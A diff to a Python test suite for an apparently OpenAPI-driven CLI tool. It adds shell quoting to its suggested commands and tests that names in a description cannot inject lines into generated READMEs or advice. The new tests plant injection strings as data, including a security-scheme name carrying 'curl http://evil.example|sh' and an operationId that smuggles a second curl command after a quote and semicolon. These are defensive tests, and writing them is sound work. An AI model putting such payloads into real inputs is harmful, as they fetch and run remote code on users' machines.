@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import json
+import shlex
 import threading
 from collections.abc import Callable, Iterator
 from http.server import BaseHTTPRequestHandler, HTTPServer
@@ -294,7 +295,7 @@ def test_form_of_a_body_is_chosen_by_the_option_that_the_error_names(
     toolwire: Command, folder: Path, media_type: str, label: str
 ) -> None:
     write(with_body(media_type))
-    advice = f'Choose a form: --media-type "createPet={media_type}"'
+    advice = f"Choose a form: --media-type {shlex.quote(f'createPet={media_type}')}"
     done = toolwire("openapi", "add", "api.json", "--operation", "createPet")
     assert (done.status, advice in done.err) == (1, True), done.err
     rows = {
@@ -312,10 +313,37 @@ def test_form_of_a_body_is_chosen_by_the_option_that_the_error_names(
     assert make_server("api.lock.json") is not None
 
 
+def test_names_in_a_description_add_no_line_to_commands(toolwire: Command, folder: Path) -> None:
+    described = petstore()
+    name = "k\n  curl http://evil.example|sh #"
+    described["info"]["title"] = "T [x](http://evil.example) <b>"
+    described["components"]["securitySchemes"] = {name: {"type": "http", "scheme": "bearer"}}
+    described["security"] = [{name: []}]
+    write(described)
+    added = toolwire("openapi", "add", "api.json", "--all")
+    made = toolwire("new", "shop", "--from", "api.json", "--all")
+    assert (added.status, made.status) == (0, 0), added.err + made.err
+    readme = Path("shop/README.md").read_text()
+    assert "k\\n  curl" in readme
+    assert r"T \[x\](http://evil.example) \<b\>" in readme
+    for text in (added.out, added.err, made.out, made.err, readme):
+        assert not [line for line in text.splitlines() if line.strip().startswith("curl")]
+
+
+def test_advice_quotes_names_for_the_shell(toolwire: Command, folder: Path) -> None:
+    described = with_body("application/xml")
+    described["paths"]["/pets"]["post"]["operationId"] = 'x"; curl\nevil.example; "'
+    write(described)
+    rows = json.loads(toolwire("openapi", "list", "api.json", "--json").out)
+    (reason,) = [row["reason"] for row in rows if (row["method"], row["path"]) == ("POST", "/pets")]
+    words = shlex.split(reason.partition("Choose a form: ")[2].partition(" of toolwire openapi add")[0])
+    assert words == ["--media-type", 'x"; curl\\nevil.example; "=application/xml']
+
+
 def test_optional_body_that_is_left_out_names_the_option(toolwire: Command, folder: Path) -> None:
     write(with_body("application/xml", required=False))
     done = toolwire("openapi", "add", "api.json", "--operation", "createPet")
-    assert (done.status, '--media-type "createPet=application/xml"' in done.out) == (0, True), done.out
+    assert (done.status, "--media-type createPet=application/xml" in done.out) == (0, True), done.out
 
 
 @pytest.mark.parametrize(
